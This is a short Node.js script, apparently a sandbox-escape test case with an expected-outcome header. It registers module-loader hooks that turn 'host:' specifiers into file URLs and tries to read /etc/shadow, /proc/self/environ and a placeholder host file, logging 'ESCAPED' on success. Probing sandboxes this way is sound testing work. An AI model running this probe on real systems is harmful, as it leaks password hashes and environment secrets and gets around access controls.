// exploit: hooks into how modules are found and loaded, to be asked for files that it may not read itself
// outcome: finished
// says: hooked
import { createRequire, registerHooks } from 'node:module'

const require = createRequire(import.meta.url)
registerHooks({
  resolve: (specifier, context, next) => (specifier.startsWith('host:') ? { url: `file://${specifier.slice(5)}`, shortCircuit: true } : next(specifier, context)),
  load: (url, context, next) => next(url, context),
})
for (const specifier of ['host:__HOST_FILE__', 'host:/etc/shadow', 'host:/proc/self/environ']) {
  await import(specifier).then(() => console.log('ESCAPED', specifier), () => {})
  try {
    require(specifier)
    console.log('ESCAPED', specifier)
  } catch (error) {
    if (!['ERR_MODULE_NOT_FOUND', 'MODULE_NOT_FOUND', 'ENOENT', 'ERR_UNKNOWN_FILE_EXTENSION'].includes(error.code)) console.log('ESCAPED', specifier, error.code)
  }
}
console.log('hooked')
